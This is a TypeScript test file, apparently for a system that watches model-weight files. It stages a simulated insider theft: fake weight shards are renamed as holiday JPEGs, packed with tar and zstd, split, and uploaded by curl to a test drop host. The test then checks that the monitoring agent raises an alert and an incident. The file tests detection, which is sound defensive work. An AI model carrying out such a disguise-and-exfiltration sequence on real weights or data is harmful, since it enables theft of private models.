// Artifacts, by an insider: weights are copied under the name of a picture, packed, split and sent to another host.
import assert from "node:assert/strict";
import { execFile, spawn } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
import { hostname } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { test, type TestContext } from "node:test";
import { apiOf, noBrowser, openBrowser, picture } from "./world/browser.ts";
import { noOtherHost, otherHost } from "./world/network.ts";
import { outweighBin, run, storyFolder, up } from "./world/platform.ts";
import { noiseSafetensors } from "./world/weights.ts";

const tools = ["/usr/bin/cc", "/usr/bin/zstd", "/usr/bin/curl"].filter((it) => !existsSync(it));
const skip = noBrowser || noOtherHost || (tools.length > 0 && `needs ${tools.join(", ")}`);
const size = 24 * 1024 * 1024;

for (const tier of ["T2", "T0"] as const) {
  test(`weights are stolen from a host: seen by an agent of tier ${tier}`, { skip, timeout: 240_000 }, async (t) => {
    const folder = storyFolder("stolen-files");
    t.after(() => folder.remove());
    const [models, loot] = [join(folder.path, "models"), join(folder.path, "loot")];
    mkdirSync(models);
    mkdirSync(loot);
    const shards = [1, 2].map((n) => join(models, `model-0000${n}-of-00002.safetensors`));
    for (const [i, it] of shards.entries()) writeFileSync(it, noiseSafetensors(`acme-13b ${i}`, size));
    writeFileSync(
      join(folder.path, "outweigh.yml"),
      `models:\n  - { name: acme-13b, class: private, places: ["file:${models}"], readers: ["vllm@*"] }\n`,
    );
    const data = join(folder.path, "data");
    const platform = await up(["--data", data, "--no-scan"], folder.path);
    t.after(() => platform.stop());
    const agent = await enrolAndRun(t, { cwd: folder.path, data, models, url: platform.url, tier });
    const drop = await otherHost();
    t.after(() => drop.close());

    const browser = await openBrowser();
    t.after(() => browser.close());
    const page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
    await page.goto(platform.link);
    const api = await apiOf(page);
    const incident = async () => {
      const { items } = await (await api.get("/api/incidents")).json();
      return items.find((it: { models: string[] }) => it.models.includes("acme-13b"));
    };
    assert.equal(await incident(), undefined, "nothing has happened yet");

    // The thief. Slow enough for a person's network, quick enough for a test.
    const sh = (line: string) => promisify(execFile)("/bin/sh", ["-ec", line], { cwd: loot });
    for (const [i, it] of shards.entries()) await sh(`cp ${it} holiday${i}.jpg`);
    await sh("tar -cf - holiday0.jpg holiday1.jpg | zstd -q -1 -o photos.zst && split -b 8M photos.zst part-");
    for (const part of readdirSync(loot).filter((it) => it.startsWith("part-")))
      await sh(`curl -s --limit-rate 16M -T ${part} http://${drop.address}:${drop.port}/`);
    // And once in a hurry, straight from its place: slower than a quarter of a second, so that every tier can see it.
    await sh(`curl -s --limit-rate 12M -T ${shards[0]} http://${drop.address}:${drop.port}/`);
    const sentAt = Date.now();
    assert.ok(drop.received() > size);

    const sends = async () => {
      const { items } = await (await api.get("/api/alerts?limit=500")).json();
      return items.filter((it: { rule: string }) => it.rule === "host_weights_sent");
    };
    while ((await sends()).length === 0 && Date.now() - sentAt < 20_000)
      await new Promise((done) => setTimeout(done, 200));
    const took = Date.now() - sentAt;
    const theft = await incident();
    assert.ok(theft, `no incident; the agent said:\n${agent.said()}`);
    const tell = async (): Promise<string[]> => {
      const { items: events } = await (await api.get("/api/events?limit=500")).json();
      return events.map((it: { operation: string; file?: { path: string } }) => `${it.operation} ${it.file?.path}`);
    };
    assert.ok((await sends()).length > 0, `the upload was not told of; told:\n${(await tell()).join("\n")}`);
    assert.ok(took < 10_000, `${took} ms`);
    // A process that ended before it could be looked at has no name, as the agent's page says.
    const named = theft.principals.filter((it: string) => !it.startsWith("unknown@"));
    assert.equal(new Set(named).size, 1, JSON.stringify(theft.principals));
    // What is shorter than a look may be missed by T0. The kernel misses nothing; but whose copy a file is may be lost with a process that
    // ended at once, so of the two that `cp` made one must be told, and of everything else all.
    const copies = shards.map((_, i) => `write ${join(loot, `holiday${i}.jpg`)}`);
    const steps = [
      ...shards.map((it) => `open ${it}`),
      `write ${join(loot, "photos.zst")}`,
      `write ${join(loot, "part-aa")}`,
    ];
    let told = await tell();
    const missing = (of: readonly string[]) => of.filter((it) => !told.includes(it));
    // What the kernel told may still be on its way from the agent.
    const until = tier === "T2" ? Date.now() + 10_000 : 0;
    while (missing([...copies, ...steps]).length > 0 && Date.now() < until) {
      await new Promise((done) => setTimeout(done, 200));
      told = await tell();
    }
    const missed = missing([...copies, ...steps]);
    t.diagnostic(
      `${tier}: told ${took} ms after the last byte; ${told.length} events; missed: ${missed.join(", ") || "nothing"}`,
    );
    if (tier === "T2") {
      assert.deepEqual(missing(steps), []);
      assert.ok(missing(copies).length < copies.length, "neither copy was told");
    }
    await page.goto(`${platform.url}/incidents/${theft.id}`);
    await page.getByText("What happened").first().waitFor();
    await picture(page, `stolen-files-${tier}`);
  });
}

async function enrolAndRun(
  t: TestContext,
  { cwd, data, models, url, tier }: { cwd: string; data: string; models: string; url: string; tier: "T0" | "T2" },
): Promise<{ said(): string }> {
  const own = join(cwd, "agent");
  const token = JSON.parse(run(["agent", "token", "--host", hostname(), "--data", data, "--json"], cwd).stdout).token;
  const enrolled = run(["agent", "enrol", url, "--token", token, "--data", own], cwd);
  assert.equal(enrolled.code, 0, enrolled.stderr);
  const again = run(["agent", "enrol", url, "--token", token, "--data", join(cwd, "other")], cwd);
  assert.equal(again.code, 3, "a token enrols one host");
  if (tier === "T2") assert.equal(run(["agent", "helper", "--data", own], cwd).code, 0);
  const child = spawn(process.execPath, [outweighBin, "agent", "run", models, "--data", own], {
    cwd,
    stdio: ["ignore", "pipe", "pipe"],
    env: { ...process.env, NO_COLOR: "1" },
  });
  t.after(() => child.kill("SIGKILL"));
  let said = "";
  for (const it of [child.stdout, child.stderr]) it.on("data", (bytes: Buffer) => (said += bytes.toString()));
  const until = Date.now() + 30_000;
  while (!said.includes("files of weights are watched") && Date.now() < until)
    await new Promise((done) => setTimeout(done, 100));
  assert.match(said, new RegExp(`watching as ${tier}`));
  return { said: () => said };
}
